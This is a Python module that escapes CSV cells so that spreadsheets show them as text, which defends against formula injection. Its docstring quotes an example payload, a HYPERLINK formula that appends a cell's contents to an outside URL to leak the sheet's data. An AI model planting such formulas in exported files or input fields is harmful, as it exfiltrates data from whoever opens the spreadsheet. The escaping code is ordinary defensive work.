"""CSV files outbound writes for people to open in a spreadsheet: every cell stays text.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (a tab or a carriage
return before one is skipped), so a customer named `=HYPERLINK("http://…"&A1, "details")` would
send the sheet's data away from a supervisor's machine. As OWASP recommends, such a cell is written
with a single quote in front, which a spreadsheet shows as text. Every CSV writer goes through here.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> str:
    """`value` as a CSV cell a spreadsheet shows as text: None is empty; text that could start a formula
    gets a leading `'`. Numbers the engine counted (a priority, a number of attempts) are written as numbers."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


class SpreadsheetWriter:
    """A `csv.writer` whose every cell goes through `spreadsheet_cell`."""

    def __init__(self, handle: TextIO) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, cells: Iterable[Any]) -> None:
        """Write one row."""
        self._writer.writerow([spreadsheet_cell(cell) for cell in cells])
